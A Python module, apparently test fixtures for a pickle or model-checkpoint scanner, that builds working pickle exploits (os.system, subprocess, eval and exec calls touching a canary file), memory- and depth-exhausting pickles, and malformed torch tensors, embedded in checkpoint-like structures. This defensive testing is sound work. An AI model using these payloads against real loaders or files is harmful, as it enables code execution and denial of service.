"""Pickles that run code where a real unpickler reads them, and pickles that hurt whoever reads them at all.

Each payload that would run something touches the file that it is given. Each stands for one way to say it: another
function, another operation, or another place in the structure.
"""

from __future__ import annotations

import pickle
import struct
from collections.abc import Iterator


def _global(dotted: str) -> bytes:
    module, _, name = dotted.rpartition(".")
    return f"c{module}\n{name}\n".encode()


def _text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _call(dotted: str, *args: bytes) -> bytes:
    return _global(dotted) + b"(" + b"".join(args) + b"tR"


def _texts(*values: str) -> tuple[bytes, ...]:
    return tuple(_text(value) for value in values)


def code_payloads(canary: str) -> dict[str, bytes]:
    """Returns operations that leave one value, and would touch the file `canary` where functions are really called."""
    shell, python = f"touch {canary}", f"open({canary!r}, 'w').close()"
    exec_part = _global("builtins.exec")
    return {
        "os.system by REDUCE": _call("os.system", *_texts(shell)),
        "posix.system": _call("posix.system", *_texts(shell)),
        "nt.system": _call("nt.system", *_texts(shell)),
        "subprocess.Popen": _call("subprocess.Popen", b"](" + b"".join(_texts("touch", canary)) + b"e"),
        "subprocess.check_output": _call("subprocess.check_output", b"](" + b"".join(_texts("touch", canary)) + b"e"),
        "os.popen": _call("os.popen", *_texts(shell)),
        "pty.spawn": _call("pty.spawn", b"](" + b"".join(_texts("touch", canary)) + b"e"),
        "eval": _call("builtins.eval", *_texts(python)),
        "exec": _call("builtins.exec", *_texts(python)),
        "exec of Python 2": _call("__builtin__.eval", *_texts(python)),
        "compile, then exec": _call("builtins.exec", _call("builtins.compile", *_texts(python, "a", "exec"))),
        "open for writing": _call("builtins.open", *_texts(canary, "w")),
        "pathlib touch through getattr": _call(
            "builtins.getattr", _call("pathlib.Path", *_texts(canary)), _text("touch")
        )
        + b")R",
        "getattr of a module": _call("builtins.getattr", _call("builtins.__import__", *_texts("os")), _text("system"))
        + b"("
        + _text(shell)
        + b"tR",
        "importlib": _call("importlib.import_module", *_texts("antigravity")),
        "runpy": _call("runpy._run_code", _text(python), b"}"),
        "timeit": _call("timeit.timeit", *_texts(python)),
        "operator.methodcaller": _call("operator.methodcaller", *_texts("system", shell))
        + b"("
        + _call("builtins.__import__", *_texts("os"))
        + b"tR",
        "functools.partial": _call("functools.partial", _global("os.system"), _text(shell)) + b")R",
        "builtins.map": _call(
            "builtins.list", _call("builtins.map", _global("os.system"), b"](" + _text(shell) + b"e")
        ),
        "torch.load inside": _call("torch.serialization.load", *_texts(canary)),
        "numpy load with pickles": _call("numpy.load", _text(canary), b"N\x88"),
        "pickle.loads inside": _call("pickle.loads", _nested(shell)),
        "marshal and FunctionType": _call("types.FunctionType", _call("marshal.loads", _text("x")), b"}") + b")R",
        "webbrowser": _call("webbrowser.open", *_texts("http://127.0.0.1:9/")),
        "NEWOBJ": _global("subprocess.Popen") + b"(" + _text(shell) + b"t\x81",
        "NEWOBJ_EX": _global("subprocess.Popen") + b"(" + _text(shell) + b"t}\x92",
        "NEWOBJ_EX with keywords": _global("subprocess.Popen") + b")}(" + _text("args") + _text(shell) + b"u\x92",
        "INST": b"(" + _text(shell) + b"ios\nsystem\n",
        "OBJ": b"(" + _global("os.system") + _text(shell) + b"o",
        "STACK_GLOBAL": b"\x8c\x02os\x8c\x06system\x93(" + _text(shell) + b"tR",
        "STACK_GLOBAL with a dotted name": b"\x8c\x08builtins\x8c\x0d__import__.os\x93)R",
        "EXT1": b"\x82\x01)R",
        "EXT2": b"\x83\x01\x00)R",
        "EXT4": b"\x84\x01\x00\x00\x00)R",
        "BUILD with __setstate__": _global("mod.Kind")
        + b")\x81}("
        + _text("__setstate__")
        + _global("os.system")
        + b"ub"
        + _text(shell)
        + b"b",
        "BUILD of slots": _global("mod.Kind") + b")\x81N}(" + _text("__class__") + _global("os.system") + b"u\x86b",
        "BUILD on a function": exec_part + b"}(" + _text("__call__") + exec_part + b"ub",
        "a call of what a call gave": _call("builtins.getattr", _global("os.system"), _text("__call__"))
        + b"("
        + _text(shell)
        + b"tR",
        "a key that is called": b"}" + _call("os.system", *_texts(shell)) + b"Ns",
        "PERSID": b"P" + _text(shell)[5:] + b"\n",
        "BINPERSID of a call": _call("os.system", *_texts(shell)) + b"Q",
        "BINPERSID of a module with its source": b"("
        + b"".join(_texts("module"))
        + _global("models.yolo.Model")
        + b"".join(_texts("a.py", python))
        + b"tQ",
        "torch rebuild from a function": _call(
            "torch._utils._rebuild_from_type_v2", _global("os.system"), _text(shell), b"(" + _text(shell) + b"t", b"N"
        ),
        "torch hub": _call("torch.hub.load", *_texts(canary, "x")),
        "a reduce within a reduce": _call(
            "copyreg._reconstructor", _global("subprocess.Popen"), _global("builtins.object"), b"N"
        ),
        "copyreg.add_extension": _call("copyreg.add_extension", *_texts("os", "system"), b"K\x01")
        + b"0\x82\x01("
        + _text(shell)
        + b"tR",
        "yaml": _call("yaml.unsafe_load", *_texts(f"!!python/object/apply:os.system ['{shell}']")),
        "joblib": _call("joblib.load", *_texts(canary)),
        "cProfile": _call("cProfile.run", *_texts(python)),
        "asyncio": _call("asyncio.unix_events._UnixSubprocessTransport._start", _text(shell), b"N"),
        "logging configuration": _call("logging.config.listen", b"M\x0f\x27"),
        "ctypes": _call("ctypes.CDLL", *_texts("libc.so.6")),
        "socket": _call("socket.create_connection", _text("127.0.0.1"), b"K\x09"),
        "shutil.rmtree": _call("shutil.rmtree", *_texts(canary)),
        "sys.exit": _call("sys.exit", b"K\x00"),
        "os._exit": _call("os._exit", b"K\x00"),
        "os.kill": _call("os.kill", b"K\x00K\x09"),
    }


def _nested(shell: str) -> bytes:
    inner = pickle.dumps(shell, 2)[:-1] + b"0" + _call("os.system", *_texts(shell)) + b"."
    return b"C" + bytes([len(inner) % 256]) + inner[:255]


def hurtful_pickles() -> dict[str, bytes]:
    """Returns operations that take memory, time or depth from whoever reads them; each leaves one value, or breaks."""
    flood = b"".join(b"\x8a\x0c" + (k * ((1 << 61) - 1)).to_bytes(12, "little") + b"N" for k in range(1, 60_000))
    return {
        "tuples a million deep": b"N" + b"\x85" * 1_000_000,
        "such a tuple as key": b"}N" + b"\x85" * 1_000_000 + b"Ns",
        "such a tuple as argument": _global("torch.Size") + b"N" + b"\x85" * 1_000_000 + b"\x85R",
        "such a tuple as persistent id": b"N" + b"\x85" * 1_000_000 + b"Q",
        "such a tuple as state": _global("a.b") + b")\x81N" + b"\x85" * 500_000 + b"b",
        "marks without end": b"(" * 100_000,
        "lists in lists": b"](" * 100_000,
        "a list in itself": b"]q\x00h\x00a",
        "a dictionary in itself": b"}q\x00X\x01\x00\x00\x00ah\x00s",
        "a record in its own arguments": b"]q\x00" + _global("a.b") + b"h\x00\x85R0h\x00",
        "a memo that doubles": b"Nq\x00" + b"0h\x00h\x00\x86q\x00" * 100_000,
        "a memo of four billion": b"Nr\xff\xff\xff\xff",
        "a memo that is not there": b"h\x07",
        "keys of one hash": b"}(" + flood + b"u",
        "a text of four gigabytes": b"X\xff\xff\xff\xffabc",
        "a text of 2**62 bytes": b"\x8d" + struct.pack("<Q", 1 << 62) + b"abc",
        "bytes of 2**63": b"\x8e" + struct.pack("<Q", 1 << 63) + b"abc",
        "BYTEARRAY8 of a terabyte": b"\x96" + struct.pack("<Q", 1 << 40) + b"abc",
        "NEXT_BUFFER": b"\x97",
        "READONLY_BUFFER": b"\x97\x98",
        "LONG4 of two gigabytes": b"\x8b\xff\xff\xff\x7f1",
        "LONG4 of negative length": b"\x8b\xff\xff\xff\xff1",
        "LONG4 of a million digits": b"\x8b" + struct.pack("<I", 400_000) + b"\x7f" * 400_000,
        "LONG of a hundred thousand digits": b"L" + b"9" * 100_000 + b"L\n",
        "INT of a hundred thousand digits": b"I" + b"9" * 100_000 + b"\n",
        "FLOAT of a hundred thousand digits": b"F" + b"9" * 100_000 + b"\n",
        "FRAME longer than the file": b"\x95" + struct.pack("<Q", 1 << 60) + b"N",
        "FRAME of nothing": b"\x95" + struct.pack("<Q", 0) + b"N",
        "no STOP": b"N" * 3,
        "STOP in the middle": b"N.NNN",
        "a million values": b"N" * 1_500_000,
        "a million empty lists": b"(" + b"]" * 1_000_000 + b"l",
        "UNICODE with escapes": b"V\\ud800\\U0010ffff\n",
        "a lone surrogate": b"X\x03\x00\x00\x00\xed\xa0\x80",
        "protocol 255": b"\x80\xffN",
        "DUP": b"N2\x86",
        "a name with a line break": b"\x8c\x03o\ns\x8c\x06system\x93)R",
        "a name of escapes": b"\x8c\x05\x1b[2J\x1b\x8c\x06system\x93)R",
        "a name of a megabyte": b"\x8d" + struct.pack("<Q", 1 << 20) + b"a" * (1 << 20) + b"\x8c\x01b\x93)R",
        "a state on a state": _global("a.b") + b")\x81}b}b",
        "an odd dictionary": b"}(Nu",
    }


def tensor_payloads() -> dict[str, bytes]:
    """Returns tensors that do not lie in their storage; each leaves one value."""

    def rebuild(
        offset: bytes, shape: bytes, stride: bytes, kind: str = "FloatStorage", count: bytes = b"K\x04"
    ) -> bytes:
        storage = b"(" + _text("storage") + _global("torch." + kind) + _text("0") + _text("cpu") + count + b"tQ"
        arguments = storage + offset + shape + stride + b"\x89" + _call("collections.OrderedDict")
        return _global("torch._utils._rebuild_tensor_v2") + b"(" + arguments + b"tR"

    big, minus = b"\x8a\x08" + b"\xff" * 7 + b"\x7f", b"J\xff\xff\xff\xff"
    one = b"K\x01\x85"
    return {
        "a negative stride": rebuild(b"K\x03", b"K\x04\x85", minus + b"\x85"),
        "a negative offset": rebuild(minus, one, one),
        "a negative shape": rebuild(b"K\x00", minus + b"\x85", one),
        "a giant offset": rebuild(big, one, one),
        "a giant shape": rebuild(b"K\x00", big + b"\x85", b"K\x00\x85"),
        "overlapping views": rebuild(b"K\x00", b"M\xff\xffM\xff\xff\x86", b"K\x00K\x00\x86"),
        "more strides than sides": rebuild(b"K\x00", one, b"K\x01K\x01\x86"),
        "a shape of texts": rebuild(b"K\x00", _text("a") + b"\x85", one),
        "a shape of floats": rebuild(b"K\x00", b"G" + struct.pack(">d", float("nan")) + b"\x85", one),
        "forty dimensions": rebuild(b"K\x00", b"(" + b"K\x01" * 40 + b"t", b"(" + b"K\x01" * 40 + b"t"),
        "an unknown kind of storage": rebuild(b"K\x00", one, one, kind="ComplexDoubleStorage"),
        "a quantised storage": rebuild(b"K\x00", one, one, kind="QUInt8Storage"),
        "a storage of a giant count": rebuild(b"K\x00", one, one, count=big),
        "a storage of a negative count": rebuild(b"K\x00", one, one, count=minus),
        "a storage that is a text": _global("torch._utils._rebuild_tensor_v2")
        + b"("
        + _text("0")
        + b"K\x00"
        + one
        + one
        + b"tR",
        "a tensor without arguments": _global("torch._utils._rebuild_tensor_v2") + b")R",
        "a parameter of a call": _call(
            "torch._utils._rebuild_parameter", _call("os.system", _text("true")), b"\x88", b"N"
        ),
        "a sparse tensor": _call("torch._utils._rebuild_sparse_tensor", b"K\x01", b"N"),
        "a device tensor": _call("torch._utils._rebuild_device_tensor_from_numpy", b"N", b"N"),
        "a meta tensor": _call("torch._utils._rebuild_meta_tensor_no_storage", b"N", b"N"),
        "a wrapper tensor": _call("torch._utils._rebuild_wrapper_subclass", _global("os.system"), b"N"),
        "an untyped storage": _call("torch.storage._load_from_bytes", b"C\x02N."),
    }


def placed(value: bytes) -> Iterator[tuple[str, bytes]]:
    """Yields whole pickles that hold `value`, by where it stands."""
    key, start = _text("model"), b"\x80\x02"
    yield "as root", start + value + b"."
    yield "as model", start + b"}(" + key + value + b"u."
    network = _global("ultralytics.nn.tasks.DetectionModel") + b")\x81}("
    tables = b"".join(_text(name) + b"}" for name in ("_parameters", "_buffers", "_modules", "_forward_hooks"))
    yield "as attribute of the network", start + b"}(" + key + network + tables + _text("names") + value + b"ubu."
    yield "as part of the network", start + b"}(" + key + network + _text("_modules") + b"}(" + key + value + b"uubu."
    yield "beside the network", start + b"}(" + _text("optimizer") + value + key + b"Nu."
